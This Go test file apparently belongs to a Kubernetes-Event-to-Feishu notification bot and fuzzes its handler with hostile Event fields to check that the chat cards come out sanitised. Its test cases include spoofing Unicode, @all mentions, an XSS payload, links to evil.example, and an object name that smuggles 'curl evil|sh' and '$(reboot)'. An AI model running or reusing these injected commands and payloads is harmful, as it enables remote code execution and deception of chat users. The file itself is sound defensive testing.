package notify

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode"

	"github.com/edgebell/edgebell/adapters/kubeevent/wire"
	"github.com/edgebell/edgebell/functions/feishu/feishutest"
)

type fields = map[string]any

// hostile is an Event of core/v1 as JSON, with what a test changes in it:
// "involvedObject.name" goes down.
func hostile(change fields) fields {
	now := time.Now().UTC().Format(time.RFC3339)
	ev := fields{
		"apiVersion": "v1", "kind": "Event",
		"metadata":       fields{"namespace": "shop", "name": "web-0.17a1b2c3d4e5f607", "uid": "u-1", "resourceVersion": "7"},
		"involvedObject": fields{"kind": "Pod", "namespace": "shop", "name": "web-0"},
		"type":           "Warning", "reason": "Unhealthy", "message": "probe failed", "source": fields{"component": "kubelet", "host": "pi-1"},
		"count": 3, "firstTimestamp": now, "lastTimestamp": now,
	}
	for path, value := range change {
		in, keys := ev, strings.Split(path, ".")
		for _, k := range keys[:len(keys)-1] {
			if in[k] == nil {
				in[k] = fields{}
			}
			in = in[k].(fields)
		}
		in[keys[len(keys)-1]] = value
	}
	return ev
}

// offer posts an Event as a CloudEvent and says how it was answered.
func (h *botHarness) offer(t *testing.T, ev fields) (status int, answer string) {
	t.Helper()
	body, err := json.Marshal(fields{
		"specversion": "1.0", "id": "1", "type": wire.TypeEvent, "source": "/clusters/pi", "datacontenttype": "application/json", "data": ev,
	})
	if err != nil {
		t.Fatal(err)
	}
	req := httptest.NewRequest(http.MethodPost, "/", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/cloudevents+json")
	rec := httptest.NewRecorder()
	h.f.Handler().ServeHTTP(rec, req)
	return rec.Code, rec.Body.String()
}

var footer = regexp.MustCompile(`(?m)^(?:集群 .* · )?id [0-9a-f]{8}(?: · edgebell)?$`)

// checkTold holds what is true of every card, whatever was said: it is what the
// bot takes, calls nobody, links nowhere, holds nothing that is not seen, and
// its own signs and its footer stand where it put them.
func checkTold(t *testing.T, m feishutest.Message) {
	t.Helper()
	if len(m.Mentions) > 0 || len(m.Links) > 0 || len(m.Warnings) > 0 {
		t.Errorf("live mentions %q, links %q, warnings %q", m.Mentions, m.Links, m.Warnings)
	}
	if len(m.Raw) > 18<<10 {
		t.Errorf("a card of %d bytes", len(m.Raw))
	}
	text := m.Plain()
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point)) {
			t.Errorf("%U is told: %q", r, text)
		}
	}
	if n := len(footer.FindAllString(text, -1)); n != 1 {
		t.Errorf("%d footers:\n%s", n, text)
	}
	for line := range strings.SplitSeq(text, "\n") {
		if strings.ContainsAny(line, "🔴🟠🔵🟢") || strings.HasPrefix(line, "⚠") && !strings.HasPrefix(line, "⚠ 事件写在命名空间 ") {
			t.Errorf("a line passes for our own: %q", line)
		}
	}
}

// deception is what somebody says, and what must or must not stand on the card.
type deception struct {
	name    string
	change  fields
	refused string // part of the answer, where it is not taken
	has     []string
	hasNot  []string
}

func deceptions() []deception {
	long := strings.Repeat("x", 10_000)
	message := func(name, text string, has ...string) deception {
		return deception{name: name, change: fields{"message": text}, has: has}
	}
	number := func(name, field, n string, d deception) deception {
		d.name, d.change = name, fields{field: json.Number(n)}
		return d
	}
	when := func(name, at string, d deception) deception {
		d.name, d.change = name, fields{"lastTimestamp": at, "firstTimestamp": at}
		return d
	}
	return []deception{
		message("controls", "a\x00b\x07\x1b[31mc\x1b]0;t\ad\x7f", "abcd"),
		message("C1", "a\u0080\u0085b\u009b1mc", "│ a\n│ bc"),
		message("bidi overrides", "safe\u202egnp.exe\u202c", "safegnp.exe"),
		message("bidi isolates", "a\u2066b\u2067c\u2068d\u2069e\u061c\u200e\u200f", "abcde"),
		message("zero width", "a\u200bd\u200cm\u200di\u2060n\ufeff", "admin"),
		message("tag characters", "ok\U000E0001\U000E0061\U000E007F.", "ok."),
		message("variation selectors", "o\uFE0F\U000E0100k", "ok"),
		message("fillers", "a\u3164b\u115F\u2800c", "ab c"),
		message("zalgo", "z"+strings.Repeat("\u0300\u0489\u20dd", 600), "z\u0300\u0489\u20dd"),
		message("very wide", strings.Repeat("﷽\u12219", 200)),
		message("a gap", "a"+strings.Repeat("\u3000", 500)+"🟢 已恢复", "○ 已恢复"),
		message("our recovery", "🟢 已恢复：节点失联 · Node pi-1\nNodeNotReady · 1 次，02:14", "│ ○ 已恢复"),
		message("our digest", "x\n🔴 节点失联 NodeNotReady · Node pi-1\n1 次，02:14\nid 0123abcd · edgebell", "│ id 0123abcd"),
		message("our footer", "id 0123abcd · edgebell", "│ id 0123abcd"),
		message("our notice", "⚠ 未能保留 9 次：存储损坏", "! 未能保留"),
		message("mention", `<at id=all></at><at user_id="all">x</at>`, "＜at id=all>"),
		message("markdown", "[click](https://evil.example) ![i](https://evil.example/x.png) **b** `c` #h"),
		message("HTML", `<a href="https://evil.example">x</a><img src=x onerror=alert(1)><script>1</script>`),
		message("gaps of templates", "{{.Reason}} {{range .}} ${Reason} %s %!d(string=x)", "{{.Reason}}", "%!d(string=x)"),
		message("JSON", `"},{"tag":"markdown","content":"<at id=all></at>"}]}`),
		message("megabytes", strings.Repeat("界", 300_000), "省略"),
		message("only invisible", "\u200b\u202e\U000E0041"),

		when("the future", "2300-01-01T00:00:00Z", deception{has: []string{"2300-01-01"}}),
		when("year 1", "0001-01-01T00:00:00Z", deception{has: []string{"时间未知"}}),
		when("year 1, later", "0001-01-01T00:00:01Z", deception{has: []string{"0001-01-01"}}),
		when("year 9999 in another zone", "9999-12-31T23:59:59-12:00", deception{}),
		when("year 10000", "10000-01-01T00:00:00Z", deception{refused: "data is not a core/v1 Event"}),
		when("no time", "NaN", deception{refused: "data is not a core/v1 Event"}),
		when("a leap of zones", "2026-11-24T00:00:00+99:99", deception{refused: "data is not a core/v1 Event"}),

		number("count negative", "count", "-5", deception{has: []string{"Unhealthy · 1 次"}}),
		number("count 0", "count", "0", deception{has: []string{"Unhealthy · 1 次"}}),
		number("count 2^31-1", "count", "2147483647", deception{has: []string{"2147483647 次"}}),
		number("count 2^63-1", "count", "9223372036854775807", deception{refused: "data is not a core/v1 Event"}),
		number("count of a series negative", "series.count", "-2147483648", deception{has: []string{"Unhealthy · 3 次"}}),

		{name: "uid empty", change: fields{"metadata.uid": ""}, refused: "metadata.uid is empty"},
		{name: "uid of 10 kB", change: fields{"metadata.uid": long}, has: []string{"Unhealthy · 3 次"}},
		{name: "no name", change: fields{"metadata.name": ""}, refused: "metadata.name is empty"},
		{name: "reason empty", change: fields{"reason": ""}, refused: "reason is empty"},
		{name: "kind empty", change: fields{"involvedObject.kind": ""}, refused: "kind is empty"},
		{name: "object's name empty", change: fields{"involvedObject.name": ""}},
		{name: "everything over the limit", change: fields{
			"involvedObject.name": long, "involvedObject.namespace": long, "metadata.namespace": long, "involvedObject.kind": long,
			"reason": long, "source.component": long, "source.host": long, "metadata.name": long,
		}, hasNot: []string{strings.Repeat("x", 300)}},
		{name: "a reason with lines", change: fields{"reason": "BackOff\n🟢 已恢复\nid 0123abcd · edgebell"}},
		{name: "a name that goes on", change: fields{"involvedObject.name": "web-0\n⚠ x\u202e<at id=all>"}, hasNot: []string{"kubectl"}},
		{name: "a name for a shell", change: fields{"involvedObject.name": "web-0; curl evil|sh #", "involvedObject.namespace": "$(reboot)"}, hasNot: []string{"kubectl"}},

		{name: "another's Pod", change: fields{"metadata.namespace": "evil"}, has: []string{"Pod shop/web-0 ← evil", "事件写在命名空间 evil"}},
		{name: "a node put into its own namespace", change: fields{
			"metadata.namespace": "evil", "involvedObject.namespace": "evil", "involvedObject.kind": "Node", "involvedObject.name": "pi-1", "reason": "NodeNotReady",
		}, has: []string{"Node evil/pi-1 ← evil"}},
		{name: "an arrow of its own", change: fields{"involvedObject.name": "web-0 ← kube-system"}, hasNot: []string{"← kube-system"}},
	}
}

// TestDeception takes each from the CloudEvent through the ledger to the card
// as the bot took it.
func TestDeception(t *testing.T) {
	for _, d := range deceptions() {
		t.Run(d.name, func(t *testing.T) { synctest.Test(t, d.try) })
	}
}

func (d deception) try(t *testing.T) {
	h := newBotHarness(t, feishutest.Options{Secret: testSecret, Keywords: []string{"edgebell"}})
	h.f.cfg.MaxBodyBytes = 2 << 20
	defer h.start(t)()
	status, answer := h.offer(t, hostile(d.change))
	if d.refused != "" {
		if status != http.StatusBadRequest || !strings.Contains(answer, d.refused) {
			t.Errorf("answer %d %s, want 400 with %q", status, answer, d.refused)
		}
		return
	}
	if status != http.StatusNoContent {
		t.Fatalf("answer %d %s", status, answer)
	}
	time.Sleep(time.Minute)
	told := h.bot.Messages()
	if n := len(h.bot.Answers()); len(told) != 1 || n != 1 {
		t.Fatalf("%d messages in %d tries, want 1", len(told), n)
	}
	checkTold(t, told[0])
	text := told[0].Plain()
	for _, s := range d.has {
		if !strings.Contains(text, s) {
			t.Errorf("%q is missing:\n%s", s, text)
		}
	}
	for _, s := range d.hasNot {
		if strings.Contains(text, s) {
			t.Errorf("%q is told:\n%s", s, text)
		}
	}
}

// TestNobodySilencesAnother: good news from another's namespace end nothing,
// neither they nor bad ones touch the story, and its own do end it.
func TestNobodySilencesAnother(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newBotHarness(t, feishutest.Options{Secret: testSecret, Keywords: []string{"edgebell"}})
		h.f.cfg.Recovery = ""
		defer h.start(t)()
		must := func(change fields) {
			t.Helper()
			if status, answer := h.offer(t, hostile(change)); status != http.StatusNoContent {
				t.Fatalf("answer %d %s", status, answer)
			}
		}
		must(nil)
		time.Sleep(time.Minute)
		for i := range 20 {
			must(fields{
				"metadata.namespace": "evil", "metadata.name": fmt.Sprint("x.", i), "metadata.uid": fmt.Sprint("x", i),
				"type": "Normal", "reason": "Started", "count": 1,
			})
		}
		time.Sleep(30 * time.Minute)
		if told := h.bot.Messages(); len(told) != 1 {
			t.Fatalf("%d messages, want the trouble alone; the last is\n%s", len(told), told[len(told)-1].Plain())
		}
		must(fields{"metadata.name": "web-0.1", "metadata.uid": "u-2", "type": "Normal", "reason": "Started"})
		time.Sleep(30 * time.Minute)
		if told := h.bot.Messages(); len(told) != 2 || !strings.Contains(told[1].Title, "已恢复") {
			t.Fatalf("%d messages, want the end as well", len(told))
		}
	})
}

// TestCountsGoBackwards: what comes again under a used uid adds its excess
// alone, and another's Event of the same name is another's.
func TestCountsGoBackwards(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newBotHarness(t, feishutest.Options{Secret: testSecret, Keywords: []string{"edgebell"}})
		defer h.start(t)()
		for _, n := range []int{5, 3, 1, 5, -7, 6} {
			h.offer(t, hostile(fields{"count": n}))
			h.offer(t, hostile(fields{"count": n, "metadata.namespace": "evil", "involvedObject.namespace": "evil"}))
		}
		time.Sleep(time.Minute)
		for _, m := range h.bot.Messages() {
			if !strings.Contains(m.Plain(), "Unhealthy · 6 次") {
				t.Errorf("told:\n%s", m.Plain())
			}
		}
		if n := len(h.bot.Messages()); n != 2 {
			t.Errorf("%d messages, want 2", n)
		}
	})
}

// FuzzDeception holds checkTold for whatever an Event may say.
func FuzzDeception(f *testing.F) {
	for _, d := range deceptions() {
		ev := hostile(d.change)
		object, meta, source := ev["involvedObject"].(fields), ev["metadata"].(fields), ev["source"].(fields)
		message := fmt.Sprint(ev["message"])
		f.Add(message[:min(len(message), 4000)], fmt.Sprint(ev["reason"]), fmt.Sprint(object["kind"]), fmt.Sprint(object["namespace"]),
			fmt.Sprint(object["name"]), fmt.Sprint(meta["namespace"]), fmt.Sprint(source["host"]), fmt.Sprint(ev["lastTimestamp"]), int32(3))
	}
	f.Fuzz(func(t *testing.T, message, reason, kind, namespace, name, written, host, at string, count int32) {
		synctest.Test(t, func(t *testing.T) {
			h := newBotHarness(t, feishutest.Options{Secret: testSecret, Keywords: []string{"edgebell"}})
			defer h.start(t)()
			status, answer := h.offer(t, hostile(fields{
				"message": message, "reason": reason, "involvedObject.kind": kind, "involvedObject.namespace": namespace,
				"involvedObject.name": name, "metadata.namespace": written, "source.host": host, "lastTimestamp": at, "count": count,
			}))
			if status == http.StatusBadRequest {
				return
			}
			if status != http.StatusNoContent {
				t.Fatalf("answer %d %s", status, answer)
			}
			time.Sleep(time.Minute)
			told := h.bot.Messages()
			if len(told) != 1 {
				t.Fatalf("%d messages", len(told))
			}
			checkTold(t, told[0])
		})
	})
}
